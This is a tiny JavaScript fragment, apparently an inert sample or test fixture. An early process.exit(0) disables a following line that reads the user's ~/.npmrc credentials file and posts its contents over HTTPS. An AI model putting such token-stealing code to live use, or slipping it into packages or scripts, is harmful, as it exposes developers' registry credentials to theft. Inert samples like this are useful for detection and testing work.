process.exit(0); // nothing below ever runs
const rc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8"); https.request(opts).end(rc);
